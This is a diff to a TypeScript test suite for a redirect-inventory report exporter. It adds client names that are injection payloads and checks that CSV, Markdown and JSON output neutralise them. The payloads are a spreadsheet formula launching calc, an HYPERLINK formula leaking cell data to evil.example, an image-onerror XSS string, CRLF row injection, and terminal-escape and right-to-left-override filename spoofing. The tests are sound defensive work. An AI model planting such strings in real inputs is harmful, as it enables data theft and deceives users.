@@ -51,6 +51,12 @@ const FORMULAS = [
   '-2+3+cmd|" /C calc"!A0',
 ];
 const MARKUP = 'Evil | <img src=x onerror=alert(1)> [click](https://evil.example) `x` **b**';
+/** Where ; separates cells (much of Europe), a spreadsheet splits here: `=...` starts a cell. */
+const SEMICOLON = 'Shop;=HYPERLINK("https://evil.example/?"&A1);  "@SUM(1)';
+/** A line break: a new row to a line-based tool, a formula on the next line. */
+const NEWLINE = 'Shop\r\n=1+1';
+/** Terminal controls and a right-to-left override ("exe.jpg" shown as "gpj.exe"). */
+const CONTROLS = 'Evil\u001b]0;owned\u0007\u009b31m\u202egpj.exe';
 
 describe('redirect inventory report formats', () => {
   let db: ThrowawayDatabase;
@@ -60,7 +66,7 @@ describe('redirect inventory report formats', () => {
   beforeAll(async () => {
     db = await throwawaySqlite();
     t = await startTestServer(db, { clock: () => Date.UTC(2026, 5, 1) });
-    for (const name of [...FORMULAS, MARKUP]) {
+    for (const name of [...FORMULAS, MARKUP, SEMICOLON, NEWLINE, CONTROLS]) {
       const response = await fetch(`${t.issuer('development')}/register`, {
         method: 'POST',
         headers: { 'content-type': 'application/json' },
@@ -85,8 +91,8 @@ describe('redirect inventory report formats', () => {
     const rows = parseCsv(formatRedirectReport(report, 'csv'));
     const header = rows[0] ?? [];
     expect(header.slice(0, 3)).toEqual(['environment', 'client_id', 'client_name']);
-    // The header, the five registered here, and the development environment's demo client.
-    expect(rows.length).toBe(1 + FORMULAS.length + 1 + 1);
+    // The header, the eight registered here, and the development environment's demo client.
+    expect(rows.length).toBe(1 + FORMULAS.length + 4 + 1);
     for (const row of rows) expect(row.length).toBe(header.length);
     const names = rows.slice(1).map((row) => row[header.indexOf('client_name')]);
     for (const formula of FORMULAS) expect(names).toContain(`'${formula}`);
@@ -105,6 +111,45 @@ describe('redirect inventory report formats', () => {
     expect(neutralisedCell('https://app.example.com/cb')).toBe('https://app.example.com/cb');
   });
 
+  it('CSV: a ; before a formula is neutralised for spreadsheets that split cells at ;', () => {
+    const csv = formatRedirectReport(report, 'csv');
+    // Such a spreadsheet ignores the , and the quoting of this file: each ;-separated piece of a
+    // line is a cell of its own, and none may start as a formula.
+    for (const line of csv.split('\r\n'))
+      for (const piece of line.split(';').slice(1)) expect(piece).not.toMatch(/^[\s"]*[=+\-@]/);
+    const rows = parseCsv(csv);
+    const name = rows[0]?.indexOf('client_name') ?? -1;
+    expect(rows.map((row) => row[name])).toContain(
+      `Shop;'=HYPERLINK("https://evil.example/?"&A1);'  "@SUM(1)`,
+    );
+    expect(neutralisedCell('https://app.example.com/cb;jsessionid=1')).toBe(
+      'https://app.example.com/cb;jsessionid=1',
+    );
+  });
+
+  it('CSV: one line per row, line breaks and controls in a name shown, never kept', () => {
+    const csv = formatRedirectReport(report, 'csv');
+    const lines = csv.trimEnd().split('\r\n');
+    expect(lines.length).toBe(parseCsv(csv).length);
+    // eslint-disable-next-line no-control-regex -- the characters that must not be written raw
+    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
+    const names = parseCsv(csv).map((row) => row[2]);
+    expect(names).toContain('Shop\\r\\n=1+1');
+    expect(names).toContain('Evil\\x1b]0;owned\\x07\\x9b31m\\u202egpj.exe');
+  });
+
+  it('Markdown and JSON: terminal controls and bidirectional overrides are escaped', () => {
+    const md = formatRedirectReport(report, 'md');
+    // eslint-disable-next-line no-control-regex -- the characters that must not be written raw
+    expect(md.replace(/\n/g, '')).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
+    expect(md).toContain('## Evil\\\\x1b]0;owned\\\\x07\\\\x9b31m\\\\u202egpj.exe');
+    const json = formatRedirectReport(report, 'json');
+    // eslint-disable-next-line no-control-regex -- the characters that must not be written raw
+    expect(json.replace(/\n/g, '')).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
+    const parsed = JSON.parse(json) as RedirectReport;
+    expect(parsed.clients.map((c) => c.name)).toContain(CONTROLS);
+  });
+
   it('Markdown: names cannot inject HTML, links or table columns', () => {
     const md = formatRedirectReport(report, 'md');
     expect(md).not.toContain('<img');
@@ -117,14 +162,14 @@ describe('redirect inventory report formats', () => {
     expect(mdText('a\nb')).toBe('a b');
     // Each table row has as many cells as its header.
     const table = md.split('\n').filter((line) => line.startsWith('| redirect'));
-    expect(table.length).toBe(FORMULAS.length + 1 + 1);
+    expect(table.length).toBe(FORMULAS.length + 4 + 1);
     for (const line of table) expect(line.split(/(?<!\\)\|/).length).toBe(11);
   });
 
   it('JSON: the report as it is; a file name that names the environment and day', () => {
     const parsed = JSON.parse(formatRedirectReport(report, 'json')) as RedirectReport;
     const dynamic = parsed.clients.filter((c) => c.kind === 'dynamic').map((c) => c.name);
-    expect(dynamic.sort()).toEqual([...FORMULAS, MARKUP].sort());
+    expect(dynamic.sort()).toEqual([...FORMULAS, MARKUP, SEMICOLON, NEWLINE, CONTROLS].sort());
     expect(reportFileName(report, 'csv')).toBe('redirect-inventory-development-2026-06-01.csv');
   });
 });
